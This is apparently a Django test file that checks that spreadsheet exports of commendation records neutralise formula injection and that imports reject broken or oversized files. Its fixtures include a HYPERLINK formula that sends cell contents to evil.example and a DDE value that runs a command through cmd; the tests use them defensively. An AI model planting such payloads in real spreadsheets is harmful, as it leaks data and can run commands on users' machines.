"""Defects 5 and 6 of issue 22: exports that a spreadsheet program would run as formulas, and
imports that answered 500 for a broken file or ran past the worker timeout for a huge one."""

import csv
import io
import os
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from wagtail_emulation.commendations.models import (
    Award,
    CandidateNoticePage,
    NoticeResponse,
    Registration,
    RegistrationRound,
)
from wagtail_emulation.models import ImportJob
from wagtail_emulation.organisation import Unit
from wagtail_emulation.shared_cache import shared_cache
from wagtail_emulation.spreadsheets.jobs import progress_key

from ..spreadsheets import workbook_bytes
from .conftest import publish

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
IMPORT_URL = "wagtailsnippets_wagtail_emulation_commendations_registration:import"


def csv_rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def notice(home):
    opened = timezone.localdate() - timedelta(days=1)
    page = CandidateNoticePage(title="Công khai", slug="ck", opens_on=opened, receiving_unit="VP")
    return publish(home, page)


def test_the_notice_response_export_never_writes_a_formula(admin_client, notice):
    NoticeResponse.objects.create(
        page=notice,
        full_name="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+84 912 345 678",
        address="-2+3",
        body=PAYLOAD,
        consented_at=timezone.now(),
    )
    url = reverse("wagtail_emulation_commendations_responses:index")
    rows = csv_rows(admin_client.get(url, {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + PAYLOAD in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+84 912 345 678" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))
    payload = next(cell for cell in cells if cell.value == PAYLOAD)
    assert payload.data_type == "s"  # text, not a formula


@pytest.fixture
def emulation_round(db):
    Unit.objects.create(name="Văn phòng Sở", short_name="Văn phòng")
    return RegistrationRound.objects.create(
        title="Đăng ký thi đua năm 2030", year=2030, deadline=date(2030, 3, 15)
    )


def test_the_registration_export_escapes_an_imported_formula(admin_client, emulation_round):
    Registration.objects.create(
        round=emulation_round,
        unit=Unit.objects.get(short_name="Văn phòng"),
        award=Award.objects.get(name="Lao động tiên tiến"),
        targets=PAYLOAD,
    )
    url = reverse("wagtailsnippets_wagtail_emulation_commendations_registration:list")
    rows = csv_rows(admin_client.get(url, {"export": "csv"}))
    assert rows[1][4] == "'" + PAYLOAD
    cells = xlsx_cells(admin_client.get(url, {"export": "xlsx"}))
    assert next(cell for cell in cells if cell.value == PAYLOAD).data_type == "s"


GOOD = workbook_bytes([["Đơn vị", "Danh hiệu hoặc hình thức"], ["Văn phòng", "Lao động tiên tiến"]])
BROKEN_FILES = {
    "random bytes": os.urandom(4096),
    "a truncated workbook": GOOD[: len(GOOD) // 2],
    "a CSV renamed": "Đơn vị,Danh hiệu hoặc hình thức\nVăn phòng,Lao động tiên tiến\n".encode(),
    "an empty file": b"",
    "a ZIP that is not a workbook": b"PK\x05\x06" + b"\x00" * 18,
}


@pytest.mark.parametrize("kind", BROKEN_FILES)
def test_a_broken_xlsx_is_refused_in_vietnamese(admin_client, emulation_round, kind):
    upload = SimpleUploadedFile("dang-ky.xlsx", BROKEN_FILES[kind])
    response = admin_client.post(reverse(IMPORT_URL), {"round": emulation_round.pk, "file": upload})
    assert response.status_code == 200
    html = response.content.decode()
    if BROKEN_FILES[kind]:
        assert "Tệp không phải là sổ tính Excel (.xlsx)" in html
    else:  # Django's own check
        assert "Tập tin được gửi là rỗng." in html
    assert not Registration.objects.exists() and not ImportJob.objects.exists()


def big_csv(rows):
    lines = ["Đơn vị,Danh hiệu hoặc hình thức,Số lượng"]
    lines += [f"Văn phòng,Lao động tiên tiến,{n}" for n in range(1, rows + 1)]
    return ("\n".join(lines) + "\n").encode()


def test_a_50000_row_csv_is_refused_by_the_row_cap(
    admin_client, emulation_round, django_capture_on_commit_callbacks
):
    upload = SimpleUploadedFile("dang-ky.csv", big_csv(50_000), "text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            reverse(IMPORT_URL), {"round": emulation_round.pk, "file": upload}
        )
    # 2 MB: read by a worker of the task queue (here the immediate backend), not the request.
    assert response.status_code == 302
    html = admin_client.get(response.url).content.decode()
    assert "Bảng tính có hơn 10.000 dòng" in html
    assert not Registration.objects.exists()
    assert ImportJob.objects.get().content == b""  # the refused file is not kept


def test_a_small_csv_over_the_row_cap_is_refused_on_the_form(admin_client, emulation_round):
    upload = SimpleUploadedFile("dang-ky.csv", big_csv(30), "text/csv")
    with override_settings(WAGTAIL_EMULATION_SPREADSHEET_MAX_ROWS=20):
        response = admin_client.post(
            reverse(IMPORT_URL), {"round": emulation_round.pk, "file": upload}
        )
    assert response.status_code == 200
    assert "Bảng tính có hơn 20 dòng" in response.content.decode()


@override_settings(WAGTAIL_EMULATION_SPREADSHEET_MAX_BYTES=1000)
def test_a_file_over_the_byte_cap_is_refused(admin_client, emulation_round):
    upload = SimpleUploadedFile("dang-ky.csv", big_csv(100), "text/csv")
    response = admin_client.post(reverse(IMPORT_URL), {"round": emulation_round.pk, "file": upload})
    assert "Tệp lớn hơn 1000" in response.content.decode()
    assert not ImportJob.objects.exists()


@override_settings(
    TASKS={"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}},
    WAGTAIL_EMULATION_SPREADSHEET_BACKGROUND_ROWS=20,
)
def test_a_large_file_goes_to_the_task_queue_with_progress(
    admin_client, emulation_round, django_capture_on_commit_callbacks
):
    from django_tasks import default_task_backend

    from wagtail_emulation.spreadsheets.tasks import run_import_job

    for n in range(1, 31):
        Unit.objects.create(name=f"Phòng số {n}", short_name=f"P{n}")

    def queued_imports():
        return [r for r in default_task_backend.results if r.task.func is run_import_job.func]

    lines = ["Đơn vị,Danh hiệu hoặc hình thức"] + [f"P{n},Lao động tiên tiến" for n in range(1, 31)]
    upload = SimpleUploadedFile("dang-ky.csv", "\n".join(lines).encode(), "text/csv")
    url = reverse(IMPORT_URL)
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(url, {"round": emulation_round.pk, "file": upload})
    assert response.status_code == 302
    (queued,) = queued_imports()
    progress = admin_client.get(response.url).content.decode()
    assert "Đang kiểm tra “dang-ky.csv”…" in progress and 'http-equiv="refresh"' in progress
    job = ImportJob.objects.get()
    shared_cache().set(progress_key(job.pk), 10)  # as the worker reports every few rows
    progress = admin_client.get(response.url).content.decode()
    assert "Đã xử lý 10 trên 30 dòng." in progress and '<progress max="30" value="10">' in progress

    run_import_job.call(*queued.args)  # the worker
    preview = admin_client.get(response.url).content.decode()
    assert "Nhập 30 dòng" in preview and "P1" in preview
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(url, {"job": job.pk})
    assert not Registration.objects.exists()  # queued, not run in the request
    run_import_job.call(*queued_imports()[-1].args)
    assert Registration.objects.count() == 30
    done = admin_client.get(response.url).content.decode()
    assert "30 mới, 0 cập nhật" in done
